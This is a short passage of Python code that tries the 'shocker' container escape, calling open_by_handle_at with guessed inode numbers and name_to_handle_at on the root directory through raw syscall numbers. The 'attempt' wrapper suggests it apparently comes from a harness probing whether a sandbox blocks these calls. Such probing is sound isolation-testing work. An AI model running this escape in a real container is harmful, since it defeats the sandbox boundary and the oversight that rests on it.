# Opens files by their number in the file system, past every folder (the "shocker" escape).
import struct

folder = os.open(".", os.O_RDONLY)
for number in (1, 2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("II", 8, 1) + struct.pack("Q", number))
    for place in (folder, -100):
        attempt(f"open_by_handle_at {number}", call, 304, 265, place, handle, 0)
room = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(128))
mount = ctypes.c_int()
attempt(
    "name_to_handle_at", call, 303, 264, -100, ctypes.c_char_p(b"/"), room, ctypes.byref(mount), 0
)
